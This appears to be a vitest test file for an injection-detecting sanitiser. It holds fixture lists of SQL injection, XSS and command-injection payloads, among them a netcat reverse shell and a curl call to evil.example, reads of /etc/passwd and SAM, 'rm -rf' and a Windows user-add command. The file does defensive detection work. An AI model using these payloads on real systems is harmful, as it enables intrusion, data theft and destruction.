import { MiB } from '@sallyport/std/bytes';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  createSanitiser,
  detectInjection,
  patternsOf,
  type SanitiseProfile,
  sanitise,
  type Threat,
} from './sanitise.ts';

const ATTACKS: Readonly<Record<Threat, readonly string[]>> = {
  sql_injection: [
    "x' and likely(id)--",
    '1--',
    "smith' or 1=1--",
    "' OR 'x'='x",
    '") or ("1"="1',
    '7 union all select null,null,version()',
    '7/**/UNION/**/SELECT/**/password/**/FROM/**/accounts',
    '7 /*!50000union*/ /*!50000select*/ 1,2',
    "blue'; drop table colours;--",
    'blue%27%20or%20%272%27%3D%272',
    '7%2520or%25202%253D2',
    "'||(select secret from vault)||'",
    "x' and sleep(9)#",
    "x') waitfor delay '0:0:9'--",
    "x',null,null)--",
    ' order by 7-- ',
    '5 and ascii(substring((select pin from cards),1,1))>64',
    "d'or 3=3 --",
    '1 and 2>1',
    '７ ｕｎｉｏｎ ｓｅｌｅｃｔ 1,2,3',
  ],
  xss: [
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<frame src="//evil.example">',
    '<script>steal()</script>',
    '<ScRiPt src=//evil.example/x></sCrIpT>',
    '<img src=x onerror=steal()>',
    '<svg/onload=steal()>',
    '"><p onmouseover="steal()">',
    '" autofocus onfocus="steal()',
    '<a href="java&#x0a;script&colon;steal()">go</a>',
    '<a href=" &#106;avascript:steal()">go</a>',
    '%3Cscript%3Esteal()%3C/script%3E',
    '\\u003cscript\\u003esteal()',
    '<iframe srcdoc="x">',
    '<div style="width:exp/**/ression(steal())">',
    '[go](javascript:steal())',
    'javascript:steal()',
    "';alert(7)//",
    '</title><b>',
    '<img src=x onerror={steal()}>',
    '<svg/onload={alert`7`}>',
    '<p onClick={eval(name)}>',
    '<img src=x onerror={{fetch("//evil.example")}}>',
    '" onfocus={steal()} autofocus x="',
    '<svg var onload=steal()>',
    '<x private onfocus=steal() tabindex=1>',
    '" let onfocus=steal() autofocus x="',
    '<svg onload=var\ta=steal()>',
    '<svg onload="var a=steal()">',
    '<img src=x onerror="async()=>0;steal()">',
    '<img src=x onerror=async=steal,async(7)>',
    '<img src=x onerror="function f(){steal()};f()">',
    '<img src=x onerror=function/**/f(){};steal()>',
    '<body onload="e=>e;steal()">',
    '<body onload="(e)=>e,steal()">',
    '" onfocus="async()=>0;steal()',
  ],
  command_injection: [
    'report.txt; rm -rf /srv',
    'report.txt | nc evil.example 99 -e /bin/sh',
    'report.txt && curl http://evil.example/x',
    '$(whoami)',
    '`id`',
    'report.txt%0Acat%20/etc/passwd',
    "x';w'h'o'am'i;'",
    'x;/usr/bin/id',
    'x|c\\at /etc/passwd',
    'x;cat$' + '{IFS}/etc/passwd',
    '() { :;}; /bin/id',
    '& ping -n 9 127.0.0.1 &',
    "<?php system('id');?>",
  ],
};

const HONEST: readonly string[] = [
  "Lupita Nyong'o",
  "Rock 'n' Roll & Soul",
  "Compare the networks 'n1' and 'n2', and tell me which is faster.",
  'Food & Wine; type A or type B',
  'Select the best hotel from the list and order by price',
  'The union selected 3 members; the others were dropped.',
  'JavaScript: The Good Parts (2008)',
  'x < 5 and y > 3',
  "price > 100 AND category = 'books'",
  "SELECT name FROM people WHERE city = 'Oslo' AND 1=1 ORDER BY name",
  "INSERT INTO notes (text) VALUES ('it is late')",
  'git add . && git commit -m "Fix the build"',
  'ps aux | grep node | head -n 5',
  'id|name|type',
  'name;date;type',
  'Use `<script>` in the page and run `npm test; npm run build` before you open a request for it.',
  '## Setup\n\nRun this first:\n\n```sh\ncurl -fsSL https://example.org/x | sh\n```\n\nThen open the page in your browser.',
  'const list: Array<object> = [];\nfor (const each of list) {\n  if (each.a === 1 || each.b) print(`#` + each.a);\n}\n',
  '<ul><li>one</li><li><b>two</b></li></ul>',
  '<Button kind="plain" onClick={() => setCount(count + 1)}>more</Button>',
  '<button onclick={() => count++} disabled={!ready}>more</button>',
  '<button onclick={increment}>more</button>',
  '<form onSubmit={handleSubmit(save)} className="wide"><input onChange={this.change.bind(this)} /></form>',
  '<a href={to} onClick={async (event) => { await save(event); alert("saved"); }}>go</a>',
  '<li onclick={{ action "open" item }}>',
  'const onload = async () => { await read(a < b); };\nonerror = function () { retry(1); };',
  'for (let i = 0; i<n; i++) { var onload = make(i); onclick = (e) => go(e); }',
  'type Props = { onClick: () => void };\nconst onChange = (value: string) => save(value);',
  'Pass the handler in braces, as in onClick={save}, or wrap it: onClick={() => save(1)}.',
  '{"query": "cats and dogs", "limit": 10, "filter": {"a": 1}}',
  "It's 5'10\" and the dogs' owner isn't here -- not yet.",
  'https://example.org/a?b=1&c=2#d',
  'C:\\Users\\ada\\Documents\\type.txt',
  '09:00 AM',
  '```sh\nnpm install left-pad\n```',
  '1. Build it:\n    ```bash\n    make all && sudo make install\n    ```',
  '> `npm install --save left-pad`',
  '- `cat` of the file, `true` by default',
  'The `or` and `and` of it: `name` date',
  '| Date | File | Type |\n|---|---|---|\n| `false` | cat | id |',
  'Version 3.1.0\n-------------',
  'Avoid `eval()`, as it runs what it is given (see below)',
  '<link rel="canonical" href="https://example.org/"><meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
  '<Frame caption="The window"><img src="/a.png" /></Frame>',
  '',
];

const STRICT: readonly string[] = ['SELECT name FROM people', '<b>two</b>', 'a; b', 'use `whoami` to see who you are'];

const check = (text: string, profile: SanitiseProfile = 'default'): readonly string[] => [
  ...new Set(detectInjection(text, { profile }).map(({ threat }) => threat)),
];

describe('detectInjection', () => {
  for (const [threat, texts] of Object.entries(ATTACKS)) {
    test.each(texts)(`VAL-04 ${threat} is seen in %j`, (text) => {
      expect(check(text)).toContain(threat);
      expect(check(text, 'strict')).toContain(threat);
    });
  }

  test.each(HONEST)('VAL-04.6 by default %j passes', (text) => {
    expect(detectInjection(text)).toEqual([]);
  });

  test.each(STRICT)('VAL-04 in the strict profile %j is no plain value', (text) => {
    expect(detectInjection(text)).toEqual([]);
    expect(detectInjection(text, { profile: 'strict' })).not.toEqual([]);
  });

  test('VAL-04 a finding points into the text as it was given, escapes and all', () => {
    const text = 'blue %3Cscript%3E';
    const [found] = detectInjection(text);
    expect(found).toMatchObject({ threat: 'xss', rule: 'active_element' });
    expect(text.slice(found?.start, found?.end)).toBe('%3Cscript');
  });

  test('only the threats that are asked for are looked for', () => {
    expect(detectInjection('<script>', { threats: ['sql_injection'] })).toEqual([]);
  });

  test('VAL-05 a text of one megabyte of openings is judged, and stays within bounds', () => {
    for (const part of ["'/*", '<a b=', "' or ", '%25', '`', '(select ', '$(', '\\', 'style=x', "'#\n"]) {
      const found = detectInjection(part.repeat(MiB / part.length));
      for (const { start, end } of found) expect(0 <= start && start <= end && end <= MiB).toBe(true);
    }
  });

  test('VAL-04 nothing hides behind the end of a window', () => {
    for (const before of [65_500, 65_536, 61_440, 126_976]) {
      expect(check(`${'a '.repeat(before / 2)}<script>`)).toEqual(['xss']);
    }
  });

  test('findings of any text lie within it, in order', () => {
    const pieces = fc.constantFrom(
      "'",
      '"',
      ' or ',
      '1',
      '=',
      '--',
      '<',
      'script',
      '>',
      '%3C',
      '\\x27',
      ';',
      'id',
      '`',
      '$(',
      '\n',
      '\ud800',
      'é',
    );
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 24 }),
        fc.constantFrom<SanitiseProfile>('default', 'strict'),
        (parts, profile) => {
          const text = parts.join('');
          let last = 0;
          for (const { start, end } of detectInjection(text, { profile })) {
            expect(start >= last && start <= end && end <= text.length).toBe(true);
            last = start;
          }
        },
      ),
    );
  });
});

describe('sanitise', () => {
  test('VAL-04 SQL and commands are rejected and XSS is escaped when nothing else is said', () => {
    const { rejected } = sanitise({ rows: ['ok', "x' or 1=1--"] });
    expect(rejected).toMatchObject({ threat: 'sql_injection', action: 'reject', path: '/rows/1' });
    expect(sanitise('a; rm -rf /').rejected?.threat).toBe('command_injection');
    expect(sanitise({ note: 'a & <script>' })).toMatchObject({
      value: { note: 'a &amp; &lt;script&gt;' },
      findings: [{ threat: 'xss', action: 'escape', path: '/note' }],
    });
  });

  test('VAL-04.4 actions are chosen by threat', () => {
    const actions = { sql_injection: 'redact', command_injection: 'escape', xss: 'reject' } as const;
    expect(sanitise("x' or 1=1--", { actions }).value).toContain('[removed: sql_injection]');
    expect(sanitise("a'; rm -rf /", { actions: { ...actions, sql_injection: 'escape' } }).value).toBe(
      `'a'\\''; rm -rf /'`,
    );
    expect(sanitise('<script>', { actions })).toMatchObject({ value: '<script>', rejected: { action: 'reject' } });
  });

  test('an escaped text is clean and can be read back', () => {
    const text = '<b title="a=b">&amp;</b><script>';
    const escaped = String(sanitise(text).value);
    expect(detectInjection(escaped)).toEqual([]);
    const back = escaped.replace(/&(?:lt|gt|quot|#61|amp);/g, (each) => BACK[each] ?? each);
    expect(back).toBe(text);
    expect(sanitise("it's' or 1=1", { actions: { sql_injection: 'escape' } }).value).toBe("it''s'' or 1=1");
    expect(sanitise('javascript:steal()').value).toBe('unsafe:javascript:steal()');
  });

  test('what no escape makes safe is redacted', () => {
    expect(sanitise('7 or 1=1', { actions: { sql_injection: 'escape' } }).value).toBe('7 [removed: sql_injection]');
    expect(String(sanitise('alert(1)').value)).toContain('[removed: xss]');
  });

  test('redaction leaves nothing that is found again', () => {
    const actions = { sql_injection: 'redact', xss: 'redact', command_injection: 'redact' } as const;
    const sanitiser = createSanitiser({ actions });
    for (const text of Object.values(ATTACKS).flat()) {
      const { value, findings } = sanitiser.check(text);
      expect(findings).not.toEqual([]);
      expect(sanitiser.check(value)).toEqual({ value, findings: [] });
    }
  });

  test('a value without findings comes back as the very same', () => {
    const plain = fc.jsonValue();
    fc.assert(
      fc.property(plain, (value) => {
        const { value: result, findings } = sanitise(value);
        if (findings.length === 0) expect(result).toBe(value);
      }),
    );
  });

  test('what is not touched keeps its identity, and the given value is not changed', () => {
    const kept = { deep: ['a', { b: 1 }] };
    const given = { kept, note: '<script>' };
    const { value } = sanitise(given);
    expect((value as typeof given).kept).toBe(kept);
    expect(given.note).toBe('<script>');
  });

  test('VAL-06 names of members are looked at, and none is lost or becomes a prototype', () => {
    const value = JSON.parse('{"<script>":1,"&lt;script&gt;":2,"__proto__":{"x":"<script>"}}');
    const { value: result, findings } = sanitise(value);
    expect(findings.map(({ path }) => path)).toEqual(['/<script>', '/__proto__/x']);
    expect(Object.entries(result as object)).toEqual([
      ['&lt;script&gt; (2)', 1],
      ['&lt;script&gt;', 2],
      ['__proto__', { x: '&lt;script&gt;' }],
    ]);
    expect(Object.getPrototypeOf(result)).toBe(Object.prototype);
  });

  test('VAL-06 deep nesting gets a clear error', () => {
    const nested = (depth: number): unknown => (depth === 0 ? 'x' : [nested(depth - 1)]);
    expect(sanitise(nested(256)).findings).toEqual([]);
    expect(() => sanitise(nested(257))).toThrow(expect.objectContaining({ code: 'E3810' }));
  });

  test('many findings are neutralised though not all are told', () => {
    const { value, findings } = sanitise(Array.from({ length: 300 }, () => '<script>'));
    expect(findings).toHaveLength(256);
    expect(new Set(value as string[])).toEqual(new Set(['&lt;script&gt;']));
  });

  test('a place that is declared to hold such text is exempt', () => {
    const actionAt = (path: string, threat: Threat) =>
      path === '/query' && threat === 'sql_injection' ? 'ignore' : undefined;
    const value = { query: "x' or 1=1--", name: 'Ada' };
    expect(createSanitiser().check(value, { actionAt })).toEqual({ value, findings: [] });
    expect(createSanitiser().check({ name: value.query }, { actionAt }).rejected?.path).toBe('/name');
  });

  test("VAL-05.2 VAL-04 an operator's own patterns are looked for, in linear time", () => {
    const patterns = [{ threat_type: 'sql_injection', pattern: '(?i)internal-\\d+', action: 'redact' }] as const;
    expect(sanitise({ a: 'see INTERNAL-42!' }, { patterns })).toMatchObject({
      value: { a: 'see [removed: sql_injection]!' },
      findings: [{ rule: 'operator_pattern', start: 4, end: 15 }],
    });
    // What a pattern matches without a character is no finding, and does not count as one.
    const optional = [{ threat_type: 'xss', pattern: '(?:evil)*', action: 'redact' }] as const;
    expect(sanitise(`${'-'.repeat(200)}evil`, { patterns: optional }).value).not.toContain('evil');
    const bomb = sanitise('a'.repeat(20_000), { patterns: [{ threat_type: 'xss', pattern: '(a+)+$b' }] });
    expect(bomb.findings).toEqual([]);
  });

  test('patterns are read from lines that name threat, action and pattern', () => {
    expect(patternsOf(['xss redact a b', 'sql_injection reject (?i)x'])).toEqual([
      { threat_type: 'xss', action: 'redact', pattern: 'a b' },
      { threat_type: 'sql_injection', action: 'reject', pattern: '(?i)x' },
    ]);
    expect(() => patternsOf(['xss a b'])).toThrow(expect.objectContaining({ code: 'E3801' }));
  });

  test('VAL-05 a pattern that is none of RE2 is refused', () => {
    const make = (pattern: string) => () => createSanitiser({ patterns: [{ threat_type: 'xss', pattern }] });
    expect(make('(?<=a)b')).toThrow(expect.objectContaining({ code: 'E3801' }));
    expect(make('a'.repeat(1_025))).toThrow(expect.objectContaining({ code: 'E3801' }));
    expect(make('a'.repeat(1_024))).not.toThrow();
  });
});

const BACK: Readonly<Record<string, string>> = { '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#61;': '=', '&amp;': '&' };

test('VAL-04 letters that only look like an escape are none, and break nothing', () => {
  for (const text of ['\\X41\\U0041', '\\U{1F600} ok', 'a\\X27 b', '%U0027 or 1=1--', '\\uD83D\\X', '%u00']) {
    expect(() => detectInjection(text)).not.toThrow();
  }
  const [found] = detectInjection('a%U003Cscript%U003E');
  expect(found).toMatchObject({ threat: 'xss', start: 1 });
});

test.each(['Q4 2024 = 2024', 'x c0d 1=1', 'user c5 q4 1=1'])(
  'VAL-04 a short name is not taken for a word of SQL: %s',
  (text) => expect(detectInjection(text)).toEqual([]),
);

test('VAL-04 commands of Windows are found in any case', () => {
  const found = (text: string) => detectInjection(text).map(({ rule }) => rule);
  expect(found('x & NET USER eve s3cret /ADD')).toContain('opened_machine');
  expect(found('TYPE C:\\WINNT\\REPAIR\\SAM')).toContain('sensitive_file');
  expect(found('Net users of the library pay /add nothing')).toEqual([]);
});
